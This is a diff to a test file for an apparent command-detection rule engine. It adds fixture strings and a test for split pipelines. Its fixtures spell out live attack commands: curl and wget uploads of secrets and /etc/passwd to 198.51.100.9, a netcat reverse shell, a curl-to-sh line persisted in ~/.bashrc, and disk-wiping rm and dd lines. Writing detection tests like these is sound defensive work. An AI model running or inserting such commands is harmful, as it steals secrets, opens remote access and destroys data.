@@ -38,6 +38,8 @@ CAUGHT = [
     ("persistence", "bash -c echo curl -s http://x/p.sh | sh >> ~/.bashrc"),
     ("exfiltration", "curl -F data=@/etc/passwd http://198.51.100.9/up"),
     ("exfiltration", "scp /app/secrets.tar user@198.51.100.9:/tmp/"),
+    ("exfiltration", "curl --data-binary @/app/secrets.env http://198.51.100.9/"),
+    ("exfiltration", "wget --post-file=/etc/hostname http://198.51.100.9/"),
     ("destructive", "rm -rf /"),
     ("destructive", "rm -rf --no-preserve-root /"),
     ("destructive", "dd if=/dev/zero of=/dev/sda bs=1M"),
@@ -122,3 +124,24 @@ def test_every_shipped_rule_has_a_class_severity_rationale_and_one_of_the_issue_
         "destructive", "tamper",
     }  # fmt: skip
     assert all(r.rationale and r.severity for r in rules)
+
+
+def test_pipelines_hidden_in_scripts_are_caught_from_their_two_ends_in_either_order() -> None:
+    def run(*execs: tuple[int, str]) -> set[str]:
+        rules = Rules(default_rules())
+        found: set[str] = set()
+        for t, (pid, line) in enumerate(execs):
+            event = exec_event(line) | {"pid": pid, "ppid": 7, "time": 100.0 + t / 10}
+            found |= {r.id for r in rules.check(event)}
+        return found
+
+    assert "cred.env-grep" in run((8, "env"), (9, "grep -i token"))
+    assert "cred.env-grep" in run((9, "grep -i token"), (8, "env"))
+    assert "exfil.pipe-out" in run((8, "cat /etc/passwd"), (9, "nc 198.51.100.9 9000"))
+    assert "shell.pipe-to-shell" in run((8, "sh -i"), (9, "nc 198.51.100.4 4444"))
+    assert not run((8, "env"), (9, "grep -i path"))
+    assert not run((8, "cat notes.txt"), (9, "grep -c todo"))
+    rules = Rules(default_rules())  # not siblings: other parents, or minutes apart
+    rules.check(exec_event("env") | {"pid": 8, "ppid": 7, "time": 0.0})
+    assert not rules.check(exec_event("grep token") | {"pid": 9, "ppid": 3, "time": 0.1})
+    assert not rules.check(exec_event("grep token") | {"pid": 9, "ppid": 7, "time": 30.0})
